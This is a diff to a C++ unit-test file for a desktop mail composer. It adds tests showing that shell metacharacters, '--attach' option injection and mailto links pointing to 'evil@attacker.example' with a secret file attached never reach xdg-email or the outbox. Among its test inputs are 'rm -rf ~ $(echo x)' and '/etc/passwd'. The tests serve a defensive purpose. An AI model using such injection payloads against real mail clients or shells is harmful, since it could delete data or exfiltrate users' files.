@@ -7,6 +7,9 @@
 #include <cstdlib>
 #include <filesystem>
 #include <fstream>
+#include <iterator>
+
+#include <signal.h>
 
 #include "platform/foundation/NSFileManager.h"
 #include "platform/foundation/RunLoop.h"
@@ -116,6 +119,11 @@ std::string pythonDefects(const std::filesystem::path& file) {
     return out;
 }
 
+std::string textOf(const std::filesystem::path& file) {
+    std::ifstream in(file, std::ios::binary);
+    return std::string(std::istreambuf_iterator<char>(in), {});
+}
+
 // The header lines of a message file (up to the first empty line).
 std::string headersOf(const std::filesystem::path& file) {
     std::ifstream in(file, std::ios::binary);
@@ -129,8 +137,8 @@ std::string headersOf(const std::filesystem::path& file) {
 class FailingService : public MailService {
 public:
     bool canSendMail() const override { return true; }
-    std::optional<NSError> deliver(const MailDraft&, const std::filesystem::path&) override {
-        return NSError{"MFMailComposeErrorDomain", 1, "the mail client refused it"};
+    void deliver(const MailDraft&, const std::filesystem::path&, Delivered done) override {
+        done(NSError{"MFMailComposeErrorDomain", 1, "the mail client refused it"});
     }
 };
 
@@ -283,22 +291,29 @@ TEST_F(MailComposerTest, WithADesktopTheMessageGoesToTheMailClientThroughAnArgum
     std::vector<std::vector<std::string>> runs;
     std::string handler = "thunderbird.desktop\n";
     int emailStatus = 0;
-    service->setProcessRunner(
-        [&](const std::vector<std::string>& argv) -> std::optional<OutboxMailService::ProcessResult> {
-            runs.push_back(argv);
-            if (argv[0] == "xdg-mime") return OutboxMailService::ProcessResult{0, handler};
-            return OutboxMailService::ProcessResult{emailStatus, ""};
-        });
+    service->setProcessRunner([&](const std::vector<std::string>& argv, OutboxMailService::Output output)
+                                  -> std::optional<OutboxMailService::ProcessResult> {
+        runs.push_back(argv);
+        if (argv[0] == "xdg-mime") return OutboxMailService::ProcessResult{0, handler};
+        EXPECT_EQ(output, OutboxMailService::Output::discarded) << "what the mail client writes is not read";
+        return OutboxMailService::ProcessResult{emailStatus, ""};
+    });
     MailService::setShared(service);
-    // Text that a shell would take apart stays one argument each.
-    composer->setSubject("Hi; rm -rf ~ $(echo x)");
+    // Text that a shell would take apart stays one argument, and a URL's delimiters stay text.
+    composer->setSubject("Hi; rm -rf ~ $(echo x) & ?");
     ASSERT_TRUE(composer->userSend());
+    EXPECT_TRUE(composer->isBusy()) << "handed over on a worker, not inside the press";
+    EXPECT_FALSE(composer->userSend()) << "Send is not pressed twice meanwhile";
+    advance(0);
     EXPECT_EQ(delegate->outcomes.at(0).result, MFMailComposeResult::Sent);
     ASSERT_EQ(runs.size(), 2u);
     EXPECT_EQ(runs[0], (std::vector<std::string>{"xdg-mime", "query", "default", "x-scheme-handler/mailto"}));
-    EXPECT_EQ(runs[1], (std::vector<std::string>{"xdg-email", "--utf8", "--subject", "Hi; rm -rf ~ $(echo x)",
-                                                 "--body", "First line\nsecond line with ü and 🤓",
-                                                 "support@example.org", "Help Desk <help@example.org>"}));
+    EXPECT_EQ(runs[1],
+              (std::vector<std::string>{
+                  "xdg-email", "--utf8",
+                  "mailto:support@example.org,help@example.org?subject=Hi%3B%20rm%20-rf%20~%20%24%28echo%"
+                  "20x%29%20%26%20%3F&body=First%20line%0D%0Asecond%20line%20with%20%C3%BC%20and%20%"
+                  "F0%9F%A4%93"}));
 
     // The client fails: the message stays in the outbox and the composer says failed.
     emailStatus = 3;
@@ -306,6 +321,7 @@ TEST_F(MailComposerTest, WithADesktopTheMessageGoesToTheMailClientThroughAnArgum
     second->mailComposeDelegate = delegate;
     second->setToRecipients({"support@example.org"});
     ASSERT_TRUE(second->userSend());
+    advance(0);
     EXPECT_EQ(delegate->outcomes.at(1).result, MFMailComposeResult::Failed);
     EXPECT_EQ(filesIn(outbox()).size(), 2u);
 
@@ -316,6 +332,7 @@ TEST_F(MailComposerTest, WithADesktopTheMessageGoesToTheMailClientThroughAnArgum
     third->mailComposeDelegate = delegate;
     third->setToRecipients({"support@example.org"});
     ASSERT_TRUE(third->userSend());
+    advance(0);
     EXPECT_EQ(delegate->outcomes.at(2).result, MFMailComposeResult::Failed);
     EXPECT_FALSE(third->userSend()) << "finished: the message is in the outbox already";
     EXPECT_EQ(runs.size(), 1u) << "xdg-email is not run";
@@ -323,7 +340,55 @@ TEST_F(MailComposerTest, WithADesktopTheMessageGoesToTheMailClientThroughAnArgum
         consoleHas("No mail client handles mailto: links; mail kept in " + third->writtenFile()->string()));
 }
 
-TEST_F(MailComposerTest, TheProcessRunnerRunsProgramsWithoutAShell) {
+// What a person types into To cannot become an option of xdg-email or a part of its mailto: link:
+// only the entries that are addresses go, to the mail client and into the outbox's message alike.
+// The real xdg-email reads the arguments; its hook (a program it hands the final link to, found
+// first on PATH) writes down what it would have opened.
+TEST_F(MailComposerTest, OnlyAddressesReachTheMailClientAndTheOutboxKeepsTheMessageHandedOver) {
+    if (!std::filesystem::exists("/usr/bin/xdg-email")) GTEST_SKIP() << "xdg-email is not installed";
+    const auto tools = home / "tools";
+    writeFile(tools / "xdg-mime", "#!/bin/sh\necho mail.desktop\n");
+    writeFile(tools / "xdg-email-hook.sh", "#!/bin/sh\nprintf '%s' \"$1\" > \"$0.url\"\n");
+    for (const char* tool : {"xdg-mime", "xdg-email-hook.sh"})
+        std::filesystem::permissions(tools / tool, std::filesystem::perms::owner_all);
+    const std::string path = std::getenv("PATH") ? std::getenv("PATH") : "/usr/bin:/bin";
+    setenv("PATH", (tools.string() + ":" + path).c_str(), 1);
+    writeFile(home / "secret.txt", "not to be mailed");
+    const std::string secret = (home / "secret.txt").string();
+
+    auto service = std::make_shared<OutboxMailService>();
+    service->setHandOffEnabled([] { return true; });
+    MailService::setShared(service);
+    composer->setToRecipients(
+        {"support@example.org", "--attach", secret, "mailto:evil@attacker.example?attach=" + secret,
+         "evil@attacker.example?attach=" + secret, "-x@b.org", "Bob <bob@b\u00FCcher.de>"});
+    composer->setCcRecipients({"--attach=" + secret, "ana@example.net"});
+    composer->setSubject("Hi & bye?attach=" + secret);
+    ASSERT_TRUE(composer->userSend());
+    advance(0);
+    setenv("PATH", path.c_str(), 1);
+    ASSERT_EQ(delegate->outcomes.at(0).result, MFMailComposeResult::Sent)
+        << (delegate->outcomes[0].error ? delegate->outcomes[0].error->localizedDescription : "");
+
+    const std::string url = textOf(tools / "xdg-email-hook.sh.url");
+    std::string encodedSecret;
+    for (char c : secret)
+        encodedSecret += c == '/' ? std::string("%2F") : std::string(1, c);
+    EXPECT_EQ(url,
+              "mailto:support@example.org,-x@b.org,bob@xn--bcher-kva.de?cc=ana@example.net&subject=Hi%20%26%"
+              "20bye%3Fattach%3D" +
+                  encodedSecret +
+                  "&body=First%20line%0D%0Asecond%20line%20with%20%C3%BC%20and%20%F0%9F%A4%93");
+    EXPECT_EQ(url.find("&attach="), std::string::npos) << url;
+    auto mail = parse(filesIn(outbox()).at(0));
+    ASSERT_TRUE(mail);
+    EXPECT_EQ(mail->to, "support@example.org, -x@b.org, Bob <bob@xn--bcher-kva.de>");
+    const std::string headers = headersOf(filesIn(outbox()).at(0));
+    EXPECT_EQ(headers.find("attacker"), std::string::npos) << headers;
+    EXPECT_NE(headers.find("Cc: ana@example.net\n"), std::string::npos) << headers;
+}
+
+TEST_F(MailComposerTest, TheProcessRunnerRunsProgramsWithoutAShellAndEndsWithTheProgramNotItsChildren) {
     auto echoed = OutboxMailService::runProcess({"printf", "%s|", "a b", "$(x)", ";"});
     ASSERT_TRUE(echoed);
     EXPECT_EQ(echoed->status, 0);
@@ -332,6 +397,24 @@ TEST_F(MailComposerTest, TheProcessRunnerRunsProgramsWithoutAShell) {
     ASSERT_TRUE(failing);
     EXPECT_NE(failing->status, 0);
     EXPECT_FALSE(OutboxMailService::runProcess({"no-such-program-anywhere-here"}));
+
+    // A program that leaves a child holding its output, as xdg-email leaves a mail client: it is
+    // done when the program is, with what the program wrote, the child still running.
+    for (auto output : {OutboxMailService::Output::captured, OutboxMailService::Output::discarded}) {
+        const auto pidFile = home / "child.pid";
+        auto left = OutboxMailService::runProcess(
+            {"sh", "-c", "echo started; sleep 30 & echo $! > \"$0\"; exit 4", pidFile.string()}, output);
+        ASSERT_TRUE(left);
+        EXPECT_EQ(left->status, 4);
+        EXPECT_EQ(left->output, output == OutboxMailService::Output::captured ? "started\n" : "");
+        const std::string child = textOf(pidFile);
+        // Its state, after the name in parentheses: a child that has ended is gone or a zombie.
+        const std::string stat = textOf("/proc/" + child.substr(0, child.find('\n')) + "/stat");
+        const auto state = stat.find(") ");
+        EXPECT_TRUE(state != std::string::npos && stat[state + 2] != 'Z')
+            << "returned only once the child had ended: " << stat;
+        kill(std::stoi(child), SIGKILL);
+    }
 }
 
 TEST_F(MailComposerTest, TheSharedServiceDecidesWhetherMailCanBeSent) {
@@ -347,11 +430,14 @@ TEST_F(MailComposerTest, TheSharedServiceDecidesWhetherMailCanBeSent) {
 // ---- The composer on screen, used with the finger and the keys ----
 
 TEST_F(MailComposerTest, AnAddressIsValidWithALocalPartAndADomainAndAFieldSplitsAtItsCommas) {
-    for (const char* valid : {"a@b.org", "Help Desk <help@example.org>", "\"Doe, Jane\" <jane@example.org>",
-                              "user@localhost", "first.last+tag@sub.example.co.uk"})
+    for (const char* valid :
+         {"a@b.org", "Help Desk <help@example.org>", "\"Doe, Jane\" <jane@example.org>", "user@localhost",
+          "first.last+tag@sub.example.co.uk", "-x@b.org", "ana@b\u00FCcher.de"})
         EXPECT_TRUE(MFMailComposeViewController::isValidAddress(valid)) << valid;
-    for (const char* invalid : {"", "ada", "ada@", "@example.org", "ada@@example.org", "ada@example..org",
-                                "ada@.example.org", "Ada <>", "a@b.org, c@d.org", "ada at example.org"})
+    for (const char* invalid :
+         {"", "ada", "ada@", "@example.org", "ada@@example.org", "ada@example..org", "ada@.example.org",
+          "Ada <>", "a@b.org, c@d.org", "ada at example.org", "--attach", "/etc/passwd", "mailto:a@b.org",
+          "a@b.org?attach=/etc/passwd", "a@-b.org"})
         EXPECT_FALSE(MFMailComposeViewController::isValidAddress(invalid)) << invalid;
     EXPECT_EQ(
         MFMailComposeViewController::recipientsInText(
@@ -462,7 +548,7 @@ TEST_F(MailComposerScreenTest,
     EXPECT_EQ(delegate->outcomes[0].result, MFMailComposeResult::Sent);
     auto mail = parse(filesIn(outbox()).at(0));
     ASSERT_TRUE(mail);
-    EXPECT_EQ(mail->to, "ada@example.net, Bob <bob>");
+    EXPECT_EQ(mail->to, "ada@example.net") << "what is no address goes nowhere";
     EXPECT_EQ(mail->subject, "Grüße from again");
     EXPECT_EQ(mail->body, "First line\nsecond line with ü and 🤓\nThanks.");
     const std::string text =
